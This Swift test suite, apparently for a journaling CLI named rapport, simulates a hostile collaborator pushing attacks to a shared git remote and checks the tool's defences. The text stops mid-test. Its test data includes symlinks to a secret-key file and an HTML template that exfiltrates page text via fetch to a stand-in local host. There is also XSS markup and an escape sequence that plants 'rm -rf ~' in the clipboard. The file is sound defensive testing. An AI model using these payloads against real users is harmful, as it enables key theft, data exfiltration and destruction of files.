import Foundation
import Testing
import TestSupport

/// The shared remote as someone with push access would use it against a colleague: every test
/// has an attacker who pushes with the git CLI whatever it likes (links, settings, templates,
/// attributes, escape sequences), and a victim who runs rapport on a clone, as in docs/Trust.md.
@Suite(.serialized) struct HostileRemoteTests {
    /// The victim's journal, keyed and pushed to a bare remote, and the attacker's git clone of it.
    struct Shared {
        let victim: CLI
        let remote: String
        let attacker: String
        /// The victim's age identity file.
        var identity: String { victim.home + "/.config/rapport/identity.txt" }

        /// The attacker changes its clone, commits everything and pushes; returns the commit id.
        @discardableResult
        func attackerPushes(_ message: String, _ change: (String) throws -> Void) throws -> String {
            #expect(git(["pull", "-q", "--no-rebase", "origin", "main"], in: attacker).status == 0)
            try change(attacker)
            #expect(git(["add", "-A"], in: attacker).status == 0)
            let committed = git(["-c", "user.name=Mallory", "-c", "user.email=mallory@example.com", "commit", "-qm", message], in: attacker)
            #expect(committed.status == 0, "\(committed)")
            let pushed = git(["push", "-q", "origin", "HEAD:main"], in: attacker)
            #expect(pushed.status == 0, "\(pushed)")
            return git(["rev-parse", "HEAD"], in: attacker).stdout.trimmingCharacters(in: .newlines)
        }

        /// How many objects in the remote hold `text` (case-insensitive), read by git itself.
        func objects(containing text: String) -> Int {
            let found = run("sh", ["-c", "git cat-file --batch-all-objects --batch | grep -a -i -c -F \"$1\"", "sh", text],
                            in: remote, environment: hermeticEnvironment(home: remote))
            return Int(found.stdout.trimmingCharacters(in: .whitespacesAndNewlines)) ?? -1
        }

        /// Clean after every command: fsck, nothing uncommitted (the attacker's commits make
        /// `CLI.expectConsistent`'s single-author check inapplicable).
        func expectConsistent(sourceLocation: SourceLocation = #_sourceLocation) {
            #expect(fsckProblems(victim.journal) == "", sourceLocation: sourceLocation)
            #expect(fsckProblems(remote) == "", sourceLocation: sourceLocation)
            #expect(git(["status", "--porcelain", "--untracked-files=all"], in: victim.journal).stdout == "", sourceLocation: sourceLocation)
        }

        /// The remote's main.
        var remoteHead: String { git(["rev-parse", "main"], in: remote).stdout }
    }

    static func shared(_ label: String = #function) -> Shared {
        let victim = CLI(label).makeJournal()
        #expect(victim("keys", "init").status == 0)
        let remote = victim.scratch.appending("remote.git")
        #expect(git(["init", "-q", "--bare", "-b", "main", remote], in: victim.scratch.path).status == 0)
        #expect(victim("remote", "add", "origin", remote).status == 0)
        #expect(victim("sync").status == 0)
        let attacker = victim.scratch.appending("attacker")
        #expect(git(["clone", "-q", remote, attacker], in: victim.scratch.path).status == 0)
        return Shared(victim: victim, remote: remote, attacker: attacker)
    }

    static func write(_ text: String, to path: String) throws {
        try FileManager.default.createDirectory(atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
    }

    // MARK: - The everyday week

    /// Everything at once. The attacker pushes links to the identity as templates, a hostile HTML
    /// template, settings that name a key, lower encryption and turn on auto-push, attributes
    /// that rewrite ciphertext, and names and notes full of markup, escape sequences and a 1 MB
    /// profile. A new co-manager then clones the journal, makes a key and runs the week: sync,
    /// private and shared one-on-ones and recognition, every digest in every format and audience,
    /// saved digests, prep, sync. Afterwards no object on the remote holds a secret key or a
    /// private note, no HTML digest makes a network request in headless Chromium, and nothing
    /// reached the terminal raw.
    @Test func theEverydayWeekAgainstAHostileRemote() throws {
        let shared = HostileRemoteTests.shared()
        let owner = shared.victim
        let victimHome = owner.scratch.appending("victim-home")
        let victimIdentity = victimHome + "/.config/rapport/identity.txt"
        let markup = "<script>alert(1)</script> ![pixel](http://127.0.0.1:9/name.png) [click](javascript:alert(1)) <img src=http://127.0.0.1:9/i.png>"
        try shared.attackerPushes("Team conventions") { clone in
            let templates = clone + "/.rapport/templates/"
            try FileManager.default.createDirectory(atPath: templates, withIntermediateDirectories: true)
            for name in ["person.md", "digest.md", "prep.md"] {
                try FileManager.default.createSymbolicLink(atPath: templates + name + ".mustache", withDestinationPath: victimIdentity)
            }
            try HostileRemoteTests.write("<html><head><script>fetch('http://127.0.0.1:9/?'+document.body.innerText)</script></head><body>{{journal}}<img src=\"http://127.0.0.1:9/template.png\"></body></html>",
                                         to: templates + "digest.html.mustache")
            let settings = try String(contentsOfFile: clone + "/.rapport/journal.yml", encoding: .utf8)
            let lowered = settings.replacingOccurrences(of: "encrypt: private", with: "encrypt: none")
                .replacingOccurrences(of: #"sync:\n  auto: [a-z]+[^\n]*\n"#, with: "", options: .regularExpression)
            try HostileRemoteTests.write(lowered + "identity: .rapport/identity.txt\nsync:\n  auto: true\n", to: clone + "/.rapport/journal.yml")
            try HostileRemoteTests.write("*.age text eol=crlf merge=union\n", to: clone + "/.gitattributes")
            let profile = "---\nkind: person\nslug: mallory\nname: \"Mallory \(markup) \\u001B]0;owned\\u0007\"\ncadence: weekly\nstatus: active\n---\n"
                + String(repeating: "A long profile line with \(markup) and \u{1B}[2J in it.\n", count: 8_000)
            try HostileRemoteTests.write(profile, to: clone + "/people/mallory.md")
            try HostileRemoteTests.write("---\nkind: one-on-one\nid: HSTX01\ndate: 2026-11-25T10:00:00+01:00\nperson: mallory\nmood: 2\n---\nI am exhausted. \(markup) \u{1B}]52;c;cm0gLXJmIH4K\u{07}\n\n- [ ] @mallory \(markup)\n",
                                         to: clone + "/entries/2026/11/2026-11-25-one-on-one-mallory-HSTX01.md")
            try HostileRemoteTests.write("---\nkind: recognition\nid: HSTX02\ndate: 2026-11-26T10:00:00+01:00\npeople: [alice, mallory]\ncategory: shipping\nvisibility: team\n---\nShipped \(markup)\n",
                                         to: clone + "/entries/2026/11/2026-11-26-recognition-alice-HSTX02.md")
        }

        // The new co-manager: their own HOME, a clone, a key.
        let victim = CLI("victim")
        victim.extraEnvironment = ["HOME": victimHome, "XDG_CONFIG_HOME": victimHome + "/.config", "XDG_DATA_HOME": victimHome + "/.local/share"]
        try FileManager.default.createDirectory(atPath: victimHome, withIntermediateDirectories: true)
        let journal = owner.scratch.appending("victim-journal")
        let cloned = victim("clone", shared.remote, journal, in: owner.scratch.path)
        #expect(cloned.status == 0, "\(cloned)")
        var outputs: [ProcessResult] = [cloned]
        func step(_ arguments: String..., stdin: String? = nil, status: Set<Int32> = [0]) {
            let result = victim.run(arguments, stdin: stdin, in: journal)
            #expect(status.contains(result.status), "\(arguments): \(result)")
            outputs.append(result)
        }
        step("keys", "init")
        #expect(FileManager.default.fileExists(atPath: victimIdentity) && !FileManager.default.fileExists(atPath: journal + "/.rapport/identity.txt"))
        step("config", "identity", journal + "/.rapport/identity.txt", status: [64])
        step("sync")
        step("1on1", "alice", "--private", "--mood", "2", "--note", "MAPLEMARK is thinking of leaving. \(markup)")
        step("1on1", "bob", "--mood", "4", "--energy", "3", "--note", "Plain notes about the roadmap.", "--action", "@bob send the RFC")
        step("kudos", "alice", "Great review of the design.", "--category", "quality")
        step("kudos", "bob", "BIRCHMARK covered for me while I was out.", "--private")
        step("person", "add", "carol", "--name", "Carol Diaz")
        step("prep", "alice")
        var pages: [String] = []
        for audience in ["self", "manager", "team"] {
            for format in ["md", "json", "html"] {
                step("digest", "--audience", audience, "--format", format)
                let out = owner.scratch.appending("digest-\(audience).\(format)")
                step("digest", "--audience", audience, "--format", format, "--out", out)
                if format == "html" { pages.append(out) }
            }
            step("digest", "--audience", audience, "--save")
        }
        step("list")
        step("show", "HSTX01")
        step("person", "list")
        step("sync")

        // Nothing secret reached the remote.
        #expect(shared.objects(containing: "Carol Diaz") > 0, "the search finds what is there")
        #expect(shared.objects(containing: "AGE-SECRET-KEY-1") == 0)
        for marker in ["MAPLEMARK", "BIRCHMARK"] { #expect(shared.objects(containing: marker) == 0, "\(marker)") }
        #expect(fsckProblems(shared.remote) == "")
        // The private entries are encrypted to the victim's key, whatever the shared file said.
        let tree = git(["ls-tree", "-r", "--name-only", "main"], in: shared.remote).stdout
        #expect(!tree.contains(".rapport/identity.txt") && !tree.contains("digest-self"))
        // Saved digests, committed and pushed, carry no markup from the journal.
        for audience in ["", "-manager", "-team"] {
            let saved = git(["show", "main:digests/2026/2026-W48\(audience).md"], in: shared.remote)
            // A tag, or a link or image's "](", that no backslash escapes.
            let markup = saved.stdout.range(of: #"(?<!\\)(<[A-Za-z!/]|\]\()"#, options: .regularExpression)
            #expect(saved.status == 0 && saved.stdout.contains("javascript:") && markup == nil,
                    "\(audience): \(markup.map { String(saved.stdout[$0.lowerBound...].prefix(80)) } ?? saved.stderr)")
        }
        // No raw control character reached the terminal.
        for output in outputs {
            #expect(!(output.stdout + output.stderr).unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n" && $0 != "\t") || (0x7F...0x9F).contains($0.value) },
                    "\(output.stdout.prefix(200))")
        }
        // The HTML digests make no request in a browser (the detector catches one that does).
        let control = owner.scratch.appending("control.html")
        owner.scratch.write("<!DOCTYPE html><img src=\"http://127.0.0.1:9/probe.png\">", to: "control.html")
        #expect(try Chromium.open(control, width: 800, scratch: owner.scratch, name: "control").requests == ["http://127.0.0.1:9/probe.png"])
        for (index, page) in pages.enumerated() {
            let opened = try Chromium.open(page, width: 1000, scratch: owner.scratch, name: "week-\(index)")
            #expect(opened.requests.isEmpty, "\(page): \(opened.requests)")
            #expect(!opened.dom.contains("<script"), "\(page)")
        }
    }

    // MARK: - Each reproduction

    /// A template that is a link to the victim's identity is never followed: `person add` and
    /// `digest --save` use the built-in template, and no secret key reaches the remote.
    @Test func aLinkedTemplateNeverLeaksTheIdentity() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        try shared.attackerPushes("Nicer templates") { clone in
            try FileManager.default.createDirectory(atPath: clone + "/.rapport/templates", withIntermediateDirectories: true)
            for name in ["person.md", "digest.md"] {
                try FileManager.default.createSymbolicLink(atPath: clone + "/.rapport/templates/\(name).mustache", withDestinationPath: shared.identity)
            }
        }
        #expect(victim("sync").status == 0)
        let added = victim("person", "add", "carol", "--name", "Carol Diaz")
        #expect(added.status == 0 && added.stderr.contains("person.md.mustache is a symbolic link"), "\(added)")
        #expect(victim("1on1", "carol", "--note", "First one.").status == 0)
        let saved = victim("digest", "--save")
        #expect(saved.status == 0 && saved.stderr.contains("digest.md.mustache is a symbolic link"), "\(saved)")
        #expect(victim("sync").status == 0)
        #expect(!victim.file("people/carol.md").contains("AGE-SECRET-KEY"))
        #expect(shared.objects(containing: "Carol Diaz") > 0, "the search finds what is there")
        #expect(shared.objects(containing: "AGE-SECRET-KEY-1") == 0)
        let checked = victim("check")
        #expect(checked.status == 65 && checked.stdout.contains(".rapport/templates/person.md.mustache:1: a symbolic link"), "\(checked)")
    }

    /// The attacker edits the shared settings with `edit` and pushes; returns the commit id.
    func pushSettings(_ shared: Shared, _ edit: @escaping (String) -> String) throws -> String {
        try shared.attackerPushes("Simplify settings") { clone in
            let settings = try String(contentsOfFile: clone + "/.rapport/journal.yml", encoding: .utf8)
            try HostileRemoteTests.write(edit(settings), to: clone + "/.rapport/journal.yml")
        }
    }

    /// `identity:` in the shared settings does not choose the key: a private entry is encrypted
    /// to the victim's own identity, which the attacker's key cannot open. An identity inside the
    /// journal, where a sync would share it, is refused.
    @Test func sharedSettingsCannotChooseTheKey() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        let teamKey = shared.attacker + "/.rapport/team.key"
        #expect(run("age-keygen", ["-o", teamKey], in: shared.attacker).status == 0)
        try pushSettings(shared) { $0 + "identity: .rapport/team.key\n" }
        #expect(victim("sync").status == 0)
        let recorded = victim("1on1", "alice", "--private", "--note", "ORCHIDMARK feels stuck.")
        #expect(recorded.status == 0 && recorded.stderr.contains("sets 'identity'"), "\(recorded)")
        let files = victim.entryFiles
        #expect(files.count == 1 && files[0].hasSuffix(".md.age"), "\(files)")
        let path = victim.journal + "/" + (files.first ?? "")
        #expect(run("age", ["-d", "-i", shared.identity, path], in: victim.journal).stdout.contains("ORCHIDMARK"))
        #expect(run("age", ["-d", "-i", teamKey, path], in: victim.journal).status != 0, "the attacker's key opens it")

        // The honest variant: an identity inside the journal would be committed; refused.
        let inside = victim("config", "identity", victim.journal + "/.rapport/identity.txt")
        #expect(inside.status == 64 && inside.stderr.contains("inside the journal"), "\(inside)")
        let keys = victim("keys", "init", environment: ["RAPPORT_IDENTITY": victim.journal + "/.rapport/mine.txt"])
        #expect(keys.status == 64 && !FileManager.default.fileExists(atPath: victim.journal + "/.rapport/mine.txt"), "\(keys)")
        #expect(victim("sync").status == 0)
        #expect(shared.objects(containing: "AGE-SECRET-KEY-1") == 1, "only the attacker's own key file")
        shared.expectConsistent()
    }

    /// `encrypt: none` and `sync.auto: true` in the shared settings change nothing: a private
    /// entry stays encrypted and nothing is pushed by itself; the downgrade is reported with the
    /// commit that made it, and only this clone's own `rapport config encrypt` lowers encryption.
    @Test func sharedSettingsCannotLowerEncryptionOrPush() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        let commit = try pushSettings(shared) { settings in
            settings.replacingOccurrences(of: "encrypt: private", with: "encrypt: none")
                .replacingOccurrences(of: #"sync:\n  auto: [a-z]+[^\n]*\n"#, with: "", options: .regularExpression) + "sync:\n  auto: true\n"
        }
        #expect(victim("sync").status == 0)
        let remoteBefore = shared.remoteHead
        let recorded = victim("1on1", "alice", "--private", "--note", "LOTUSMARK feels stuck.")
        #expect(recorded.status == 0, "\(recorded)")
        for warning in ["sets 'sync.auto'", "asks for encrypt: none", "lowered in commit \(commit.prefix(10)) by Mallory <mallory@example.com>"] {
            #expect(recorded.stderr.contains(warning), "\(warning): \(recorded.stderr)")
        }
        // Said once per version of the file; `rapport config` always shows both levels.
        let again = victim("list")
        #expect(again.status == 0 && !again.stderr.contains("asks for encrypt"), "\(again)")
        #expect(victim("config", "encrypt").stdout.contains("floor private; .rapport/journal.yml says none"))
        // A later edit of another setting, by someone else, does not take the blame.
        victim.scratch.write(victim.file(".rapport/journal.yml").replacingOccurrences(of: "watch_words: [", with: "watch_words: [swamped, "),
                             to: "journal/.rapport/journal.yml")
        let edited = victim("commit")
        #expect(edited.status == 0 && edited.stderr.contains("(edited here and not committed)"), "\(edited)")
        let after = victim("list")
        #expect(after.status == 0 && after.stderr.contains("lowered in commit \(commit.prefix(10)) by Mallory"), "\(after)")
        #expect(!victim("list").stderr.contains("asks for encrypt"))
        #expect(victim.entryFiles.count == 1 && victim.entryFiles[0].hasSuffix(".md.age"), "\(victim.entryFiles)")
        #expect(victim("kudos", "alice", "Shipped it.").status == 0)
        #expect(shared.remoteHead == remoteBefore, "a write was pushed because the shared file said so")
        #expect(victim("sync").status == 0)
        #expect(shared.objects(containing: "LOTUSMARK") == 0)

        // Lowering encryption is this clone's own, explicit decision.
        #expect(victim("config", "encrypt", "none").status == 0)
        let plain = victim("1on1", "alice", "--private", "--note", "Plain on purpose.")
        #expect(plain.status == 0 && plain.stderr.contains("stored in plain text") && !plain.stderr.contains("asks for encrypt"), "\(plain)")
        shared.expectConsistent()
    }

    /// A digest written with --out inside the journal stays there: sync lists it and leaves it
    /// alone. The journal's own folders are refused for --out, and no file holding a secret key
    /// is ever committed.
    @Test func strayFilesAndSecretKeysAreNeverCommitted() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        #expect(victim("1on1", "alice", "--private", "--note", "PEONYMARK is interviewing.").status == 0)
        let written = victim("digest", "--out", "week.md")
        #expect(written.status == 0, "\(written)")
        #expect(victim.file("week.md").contains("PEONYMARK"))
        let synced = victim("sync")
        #expect(synced.status == 0, "\(synced)")
        #expect(synced.stderr.contains("week.md") && synced.stderr.contains("outside the journal's folders"), "\(synced)")
        #expect(shared.objects(containing: "PEONYMARK") == 0)
        for folder in ["entries", "people", "digests", ".rapport"] {
            let refused = victim("digest", "--out", folder + "/week.md")
            #expect(refused.status == 64 && refused.stderr.contains("--save"), "\(folder): \(refused)")
            #expect(!FileManager.default.fileExists(atPath: victim.journal + "/" + folder + "/week.md"))
        }
        let key = try String(contentsOfFile: shared.identity, encoding: .utf8)
        victim.scratch.write(victim.file("people/bob.md") + "\n" + key.lowercased(), to: "journal/people/bob.md")
        let commits = victim.commitCount
        for arguments in [["commit"], ["commit", "--force"], ["sync"]] {
            let refused = victim.run(arguments)
            #expect(refused.status == 65 && refused.stderr.contains("people/bob.md holds an age secret key"), "\(arguments): \(refused)")
            #expect(refused.stderr.split(separator: "\n").count == 1, "\(refused)")
        }
        #expect(victim.commitCount == commits)
        #expect(shared.objects(containing: "AGE-SECRET-KEY-1") == 0)
    }

    /// A pushed HTML template runs only once the victim trusts it, and even then after the CSP
    /// rapport writes first in the head.
    @Test func aPushedTemplateRunsOnlyOnceTrusted() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        let template = """
            <!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *">
            <script>fetch('http://127.0.0.1:9/?' + document.body.innerText)</script></head>
            <body>EVILTEMPLATE {{journal}}</body></html>
            """
        try shared.attackerPushes("A prettier digest") { clone in
            try HostileRemoteTests.write(template, to: clone + "/.rapport/templates/digest.html.mustache")
        }
        #expect(victim("sync").status == 0)
        let untrusted = victim("digest", "--format", "html")
        #expect(untrusted.status == 0 && untrusted.stderr.contains("has not trusted its current version"), "\(untrusted)")
        #expect(!untrusted.stdout.contains("EVILTEMPLATE") && !untrusted.stdout.contains("<script"))
        #expect(victim("templates").stdout.contains(".rapport/templates/digest.html.mustache  not trusted"))
        let unnamed = victim("templates", "trust")
        #expect(unnamed.status == 64 && unnamed.stderr.contains("digest.html"), "\(unnamed)")
        let trusted = victim("templates", "trust", "digest.html")
        #expect(trusted.status == 0 && trusted.stdout.contains("Trusted .rapport/templates/digest.html.mustache"), "\(trusted)")
        let html = victim("digest", "--format", "html").stdout
        #expect(html.contains("EVILTEMPLATE"))
        // rapport's own policy comes before anything the template writes.
        let policy = try #require(html.range(of: "Content-Security-Policy"))
        #expect(html[..<policy.lowerBound].contains("<head>") && !html[..<policy.lowerBound].contains("<script"))
        let ours = try #require(html.range(of: "default-src 'none'")), theirs = try #require(html.range(of: "default-src *"))
        #expect(ours.lowerBound < theirs.lowerBound)
        // A change pulled later is not trusted until trusted again.
        try shared.attackerPushes("Tweak") { clone in
            try HostileRemoteTests.write(template.replacingOccurrences(of: "EVILTEMPLATE", with: "CHANGEDTEMPLATE"),
                                         to: clone + "/.rapport/templates/digest.html.mustache")
        }
        #expect(victim("sync").status == 0)
        let changed = victim("digest", "--format", "html")
        #expect(!changed.stdout.contains("CHANGEDTEMPLATE") && changed.stderr.contains("changed since you trusted it"), "\(changed)")
    }

    /// `.gitattributes` from the remote asking for end-of-line conversion and union merges of
    /// encrypted entries changes no byte of them: a 200 KB private entry decrypts from the blob with
    /// the age CLI and in a fresh clone, and an entry both sides changed is kept twice, not spliced.
    @Test func pulledAttributesNeverChangeCiphertext() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        try shared.attackerPushes("Normalize line endings") { clone in
            try HostileRemoteTests.write("* text eol=crlf merge=union\n*.age text eol=crlf merge=union\n", to: clone + "/.gitattributes")
        }
        #expect(victim("sync").status == 0)
        let long = (0..<4_000).map { "Line \($0) of a long private note, LILACMARK.\n" }.joined()
        let recorded = victim("1on1", "alice", "--private", "--note", "-", stdin: long)
        #expect(recorded.status == 0, "\(recorded)")
        let id = try #require(entryID(in: recorded.stdout))
        let path = try #require(victim.entryFiles.first { $0.hasSuffix(".md.age") })
        #expect(victim("sync").status == 0)
        let blob = victim.scratch.appending("blob.age")
        #expect(run("sh", ["-c", "git cat-file blob main:\(path) > \"$1\"", "sh", blob], in: shared.remote,
                    environment: hermeticEnvironment(home: shared.remote)).status == 0)
        let decrypted = run("age", ["-d", "-i", shared.identity, blob], in: victim.scratch.path)
        #expect(decrypted.status == 0 && decrypted.stdout.contains("Line 3999 of a long private note"), "\(decrypted.stderr)")
        let clone = victim.scratch.appending("fresh")
        #expect(victim("clone", shared.remote, clone).status == 0)
        #expect(victim("show", id, in: clone).stdout.contains("Line 3999 of a long private note"))

        // Both sides change the entry: the attacker replaces it with another age file for the
        // victim's key, the victim edits it. Both versions stay whole. (The attacker's own git
        // must not mangle its file on the way in: its info/attributes overrides the hostile ones.)
        let recipient = victim("keys", "show").stdout.trimmingCharacters(in: .newlines)
        try HostileRemoteTests.write("*.age binary\n", to: shared.attacker + "/.git/info/attributes")
        try shared.attackerPushes("Replace") { clone in
            let replacement = clone + "/replacement.md"
            try HostileRemoteTests.write("---\nkind: one-on-one\nid: \(id)\ndate: 2026-11-28T14:30:00+01:00\nperson: alice\nprivate: true\n---\nTheirs.\n",
                                         to: replacement)
            #expect(run("age", ["-r", recipient, "-o", clone + "/" + path, replacement], in: clone).status == 0)
            try FileManager.default.removeItem(atPath: replacement)
        }
        let editor = victim.script("append", "printf 'Mine too.\\n' >> \"$1\"")
        #expect(victim("edit", id, environment: ["EDITOR": editor]).status == 0)
        let merged = victim("sync")
        #expect(merged.status == 0 && merged.stderr.contains("both sides changed \(path)"), "\(merged)")
        let copy = try #require(try FileManager.default.contentsOfDirectory(atPath: victim.journal + "/" + (path as NSString).deletingLastPathComponent)
            .first { $0.contains(".conflict-") })
        let folder = victim.journal + "/" + (path as NSString).deletingLastPathComponent
        #expect(run("age", ["-d", "-i", shared.identity, victim.journal + "/" + path], in: folder).stdout.contains("Mine too."))
        #expect(run("age", ["-d", "-i", shared.identity, folder + "/" + copy], in: folder).stdout.contains("Theirs."))
        #expect(fsckProblems(victim.journal) == "")
    }

    /// A low-order recipient pushed into `.rapport/recipients` would give a stanza anyone can
    /// open: refused with one line naming the line, and nothing is written.
    @Test func aLowOrderRecipientIsRefused() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        // The all-zero point, which the age CLI refuses too.
        let zero = "age1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq5cu47z"
        try shared.attackerPushes("Add the team's key") { clone in
            let recipients = try String(contentsOfFile: clone + "/.rapport/recipients", encoding: .utf8)
            try HostileRemoteTests.write(recipients + zero + "\n", to: clone + "/.rapport/recipients")
            let settings = try String(contentsOfFile: clone + "/.rapport/journal.yml", encoding: .utf8)
            try HostileRemoteTests.write(settings.replacingOccurrences(of: "encrypt: private", with: "encrypt: all"), to: clone + "/.rapport/journal.yml")
        }
        #expect(victim("sync").status == 0)
        let commits = victim.commitCount
        let refused = victim("kudos", "alice", "Helped a lot.")
        #expect(refused.status == 65 && refused.stderr.contains(".rapport/recipients:3: this line is a low-order X25519 point"), "\(refused)")
        #expect(refused.stderr.split(separator: "\n").count == 1)
        #expect(victim.commitCount == commits)
        shared.expectConsistent()
    }

    /// `private: true` on a hand-written recognition, or in a conflict copy made by hand, makes
    /// it private: encrypted before it is committed and out of the team digest.
    @Test func privateOnAnyKindIsPrivate() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        victim.scratch.write("---\nkind: recognition\nid: PRVREC\ndate: 2026-11-27T10:00:00+01:00\npeople: [alice]\nprivate: true\n---\nTULIPMARK fixed it quietly.\n",
                             to: "journal/entries/2026/11/2026-11-27-recognition-alice-PRVREC.md")
        victim.scratch.write("---\nkind: one-on-one\nid: PRVCPY\ndate: 2026-11-26T10:00:00+01:00\nperson: alice\nprivate: true\n---\nDAISYMARK, the other side.\n",
                             to: "journal/entries/2026/11/2026-11-26-one-on-one-alice-PRVCPY.conflict-1a2b3c4.md")
        let committed = victim("commit")
        #expect(committed.status == 0, "\(committed)")
        #expect(victim.entryFiles.sorted() == ["entries/2026/11/2026-11-26-one-on-one-alice-PRVCPY.conflict-1a2b3c4.md.age",
                                               "entries/2026/11/2026-11-27-PRVREC.md.age"], "\(victim.entryFiles)")
        let team = victim("digest", "--audience", "team", "--format", "json")
        #expect(team.status == 0 && !team.stdout.contains("TULIPMARK") && !team.stdout.contains("PRVREC"), "\(team)")
        #expect(victim("digest").stdout.contains("TULIPMARK"))
        #expect(victim("sync").status == 0)
        #expect(shared.objects(containing: "TULIPMARK") == 0 && shared.objects(containing: "DAISYMARK") == 0)
    }

    /// Escape sequences in names and notes reach no terminal raw, and weights that are not finite
    /// numbers are bad data, not a crash.
    @Test func journalTextCannotDriveTheTerminal() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        let hostile = "Eve\u{1B}[2J\u{1B}]0;pwned\u{07}\u{1B}]52;c;cm0gLXJmIH4K\u{07}\u{9B}31m\u{7F}\r"
        try shared.attackerPushes("Add Eve") { clone in
            try HostileRemoteTests.write("---\nkind: person\nslug: eve\nname: \"\(hostile.unicodeScalars.filter { $0 != "\r" }.map { $0.value < 0x20 || $0.value >= 0x7F ? String(format: "\\u%04X", $0.value) : String($0) }.joined())\"\ncadence: weekly\nstatus: active\n---\nNotes \(hostile)\n",
                                         to: clone + "/people/eve.md")
            try HostileRemoteTests.write("---\nkind: one-on-one\nid: ESCAPE\ndate: 2026-11-27T10:00:00+01:00\nperson: eve\n---\nSaid \(hostile) today.\n\n- [ ] @eve reply \(hostile)\n",
                                         to: clone + "/entries/2026/11/2026-11-27-one-on-one-eve-ESCAPE.md")
        }
        #expect(victim("sync").status == 0)
        for (arguments, shows) in [(["list"], true), (["show", "ESCAPE"], true), (["person", "list"], true), (["person", "show", "eve"], true),
                                   (["digest"], true), (["prep", "eve"], true), (["search", "said"], true), (["actions"], true), (["due"], false)] {
            let result = victim.run(arguments)
            #expect([0, 3].contains(result.status), "\(arguments): \(result)")
            for output in [result.stdout, result.stderr] {
                #expect(!output.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n" && $0 != "\t") || (0x7F...0x9F).contains($0.value) },
                        "\(arguments) printed a control character")
            }
            if shows { #expect(result.stdout.contains("\\u001b") && result.stdout.contains("52;c;cm0gLXJmIH4K"), "\(arguments): \(result.stdout.prefix(300))") }
        }
        // JSON stays JSON, and reads back as the text in the file.
        let shown = victim("show", "ESCAPE", "--json")
        let document = try #require(try JSONSerialization.jsonObject(with: Data(shown.stdout.utf8)) as? [String: Any], "\(shown.stdout.prefix(300))")
        #expect((document["body"] as? String)?.contains("\u{9B}31m\u{7F}") == true, "\(document)")
        // A file name with a line break cannot forge a line of output.
        try shared.attackerPushes("Odd name") { clone in
            try FileManager.default.createSymbolicLink(atPath: clone + "/people/x\nok: 2 people, 0 entries, 0 open action items", withDestinationPath: "/etc/hostname")
        }
        #expect(victim("sync").status == 0)
        let checked = victim("check")
        #expect(checked.status == 65 && !checked.stdout.split(separator: "\n").contains { $0.hasPrefix("ok:") }, "\(checked)")
        #expect(checked.stdout.contains("people/x\\nok: 2 people"), "\(checked)")
        // Weights that are not finite numbers: pulled, then edited by hand.
        try shared.attackerPushes("Weights") { clone in
            let settings = try String(contentsOfFile: clone + "/.rapport/journal.yml", encoding: .utf8)
            try HostileRemoteTests.write(settings.replacingOccurrences(of: "mood: 0.30", with: "mood: inf"), to: clone + "/.rapport/journal.yml")
        }
        #expect(victim("sync").status == 0)
        for weight in ["inf", "1e309"] {
            victim.scratch.write(victim.file(".rapport/journal.yml").replacingOccurrences(of: #"mood: [0-9.a-z]+"#, with: "mood: \(weight)",
                                                                                          options: .regularExpression),
                                 to: "journal/.rapport/journal.yml")
            let digest = victim("digest")
            #expect(digest.status == 65 && digest.stderr.contains("must be a finite number"), "\(weight): \(digest)")
            #expect(digest.stderr.split(separator: "\n").count == 1, "\(digest)")
        }
    }

    /// Under a umask of 022, every file rapport writes in the journal, its .git and --out is the
    /// owner's alone; and recipients that link to the identity print no key material.
    @Test func whatRapportWritesIsTheOwnersAlone() throws {
        let shared = HostileRemoteTests.shared()
        let victim = shared.victim
        func underUmask022(_ arguments: String...) -> ProcessResult {
            run("sh", ["-c", "umask 022; exec \"$0\" \"$@\"", CLI.binary] + arguments, in: victim.journal, environment: victim.environment())
        }
        let fresh = victim.scratch.appending("fresh")
        #expect(underUmask022("clone", shared.remote, fresh).status == 0)
        #expect(underUmask022("--journal", fresh, "1on1", "alice", "--private", "--note", "Mode check.").status == 0)
        #expect(underUmask022("--journal", fresh, "digest", "--out", victim.scratch.appending("out.md")).status == 0)
        #expect(underUmask022("--journal", fresh, "sync").status == 0)
        var open: [String] = []
        for root in [fresh, victim.journal] {
            let enumerator = FileManager.default.enumerator(atPath: root)
            while let path = enumerator?.nextObject() as? String {
                var info = stat()
                guard lstat(root + "/" + path, &info) == 0, (info.st_mode & S_IFMT) != S_IFLNK else { continue }
                if info.st_mode & 0o077 != 0 { open.append(path + " " + String(info.st_mode & 0o777, radix: 8)) }
            }
        }
        #expect(open.isEmpty, "\(open.prefix(20))")
        var info = stat()
        #expect(stat(victim.scratch.appending("out.md"), &info) == 0 && info.st_mode & 0o777 == 0o600)
        // A remote shared by a group stays readable by the group: what rapport writes into it
        // follows the remote's own folders, not rapport's umask.
        let group = victim.scratch.appending("group.git")
        #expect(run("sh", ["-c", "umask 022; git init -q --bare --shared=group -b main \"$0\"", group], in: victim.scratch.path).status == 0)
        #expect(underUmask022("--journal", fresh, "remote", "add", "team", group).status == 0)
        #expect(underUmask022("--journal", fresh, "sync", "--remote", "team").status == 0)
        let written = run("find", [group + "/refs/heads/main", group + "/objects/pack", "-type", "f", "!", "-perm", "-g=r"], in: group)
        #expect(written.status == 0 && written.stdout.isEmpty, "not group-readable: \(written.stdout)")
        #expect(git(["log", "--oneline", "-1", "main"], in: group).status == 0)

        try shared.attackerPushes("Recipients") { clone in
            try FileManager.default.removeItem(atPath: clone + "/.rapport/recipients")
            try FileManager.default.createSymbolicLink(atPath: clone + "/.rapport/recipients", withDestinationPath: shared.identity)
        }
        #expect(victim("sync").status == 0)
        for arguments in [["check"], ["keys", "init"], ["kudos", "alice", "Thanks."], ["digest", "--save"]] {
            let result = victim.run(arguments)
